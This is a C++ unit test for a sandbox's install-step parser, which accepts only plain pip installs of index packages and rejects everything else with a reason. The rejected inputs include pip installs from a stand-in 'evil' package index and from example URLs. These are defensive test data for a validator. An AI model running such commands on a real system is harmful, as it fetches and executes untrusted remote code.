// Install steps (run/install_step.h): only pip installs of index requirements are, and the
// script they run as starts pip isolated from the workspace. Pure.
#define BOOST_TEST_MODULE install_step
#include "run/install_step.h"

#include <boost/test/unit_test.hpp>

namespace run = sandrun::run;
using Texts = std::vector<std::string>;

namespace {

std::string Why(const std::string& code) { return run::ParsePureInstall(code, nullptr); }

}  // namespace

BOOST_AUTO_TEST_SUITE(InstallStep)

BOOST_AUTO_TEST_CASE(index_requirements_as_models_write_them_are_install_steps) {
  for (const char* code :
       {"pip install yfinance matplotlib", "pip3 install -q 'pandas>=2' \"numpy<2,>=1.2\"",
        "python -m pip install --upgrade pip", "python3 -m pip install --user -U x[excel]",
        "python3.11 -m pip install -qU x==1.*", "sudo pip install x", "sudo -H pip3.11 install x",
        "# deps\ncd /tmp && python3 -m pip install -q x\n\npip3 install y\n",
        "pip install a; pip install b || pip install c  # comment",
        "pip install x > /dev/null 2>&1", "pip install --no-cache-dir --break-system-packages -- x",
        "pip install x;"}) {
    BOOST_TEST(Why(code) == "", code);
  }
}

BOOST_AUTO_TEST_CASE(anything_else_is_a_program_and_says_why) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"./pip install x", "'./pip', not the system's pip"},
      {"~/.local/bin/pip install x", "not the system's pip"},
      {"/usr/bin/pip install x", "not the system's pip"},
      {"pip install ./dir", "'./dir' does not start with a package name"},
      {"pip install .", "'.' does not start with a package name"},
      {"pip install -r requirements.txt", "pip option '-r'"},
      {"pip install --requirement=req.txt", "pip option '--requirement=req.txt'"},
      {"pip install -e .", "pip option '-e'"},
      {"pip install --index-url http://evil/simple x", "pip option '--index-url'"},
      {"pip install -i http://evil/simple x", "pip option '-i'"},
      {"pip install --no-build-isolation x", "pip option '--no-build-isolation'"},
      {"pip install --target /tmp x", "pip option '--target'"},
      {"pip install https://e.example/x.tar.gz", "names a file"},
      {"pip install x.whl", "names a file"},
      {"pip install X==1.0.zip", "names a file"},
      {"pip install 'x @ http://e.example/x'", "direct reference"},
      {"pip install $PKG", "'$PKG'"},
      {"pip install", "names no package"},
      {"pip install -q", "names no package"},
      {"PYTHONPATH=. pip install x", "sets 'PYTHONPATH=.'"},
      {"pip install x\npython app.py", "line 2 runs 'python app.py'"},
      {"pip install x && echo done", "'echo done'"},
      {"pip install x | tail -1", "'|'"},
      {"pip install x &", "ends with '&'"},
      {"pip install x > log.txt", "writes 'log.txt'"},
      {"pip install x <<EOF\ny\nEOF", "heredoc"},
      {"time pip install x", "'time' before pip"},
      {"pip download x", "is not a pip install"},
      {"echo hi", "is not a pip install"},
      {"", "installs nothing"},
      {"cd /tmp", "installs nothing"},
  };
  for (const auto& [code, part] : cases) {
    const std::string why = Why(code);
    BOOST_TEST(why.find(part) != std::string::npos, code << " -> " << why);
  }
  // A long word is quoted short.
  BOOST_TEST(Why("pip install ./" + std::string(500, 'a')).size() < 200);
}

BOOST_AUTO_TEST_CASE(the_script_runs_the_systems_pip_isolated_with_canonical_requirements) {
  run::PureInstall pure;
  BOOST_TEST_REQUIRE(
      run::ParsePureInstall("cd sub && pip install -q 'Pandas >= 2' numpy\n"
                            "pip3 install numpy x[b,a] || python -m pip install -U y\n",
                            &pure) == "");
  BOOST_TEST(pure.requirements == (Texts{"pandas>=2", "numpy", "x[a,b]", "y"}),
             boost::test_tools::per_element());
  const std::string pip =
      "/usr/bin/python3 -I -m pip install --user --no-cache-dir --no-warn-script-location";
  BOOST_TEST(pure.script ==
             "# sandrun: this install step as it runs: pip started isolated from the workspace, "
             "index requirements only\n"
             "cd /run/sandrun || exit 1\n" +
                 pip + " -q -- 'pandas>=2' 'numpy'\n" + pip + " -- 'numpy' 'x[a,b]' || " + pip +
                 " -U -- 'y'\n");
  BOOST_TEST(run::InstallRequirements("pip install ./x").empty());
}

BOOST_AUTO_TEST_CASE(a_requirement_is_covered_by_its_text_or_by_name_when_bare) {
  const Texts have = {"numpy==1.26.4", "pandas[excel]", "scipy"};
  BOOST_TEST(run::RequirementCovered("numpy", have));
  BOOST_TEST(run::RequirementCovered("numpy==1.26.4", have));
  BOOST_TEST(run::RequirementCovered("pandas", have));
  BOOST_TEST(run::RequirementCovered("scipy", have));
  BOOST_TEST(!run::RequirementCovered("numpy<2", have));
  BOOST_TEST(!run::RequirementCovered("scipy[all]", have));
  BOOST_TEST(!run::RequirementCovered("torch", have));
  BOOST_TEST(!run::RequirementCovered("numpy", {}));
}

BOOST_AUTO_TEST_SUITE_END()
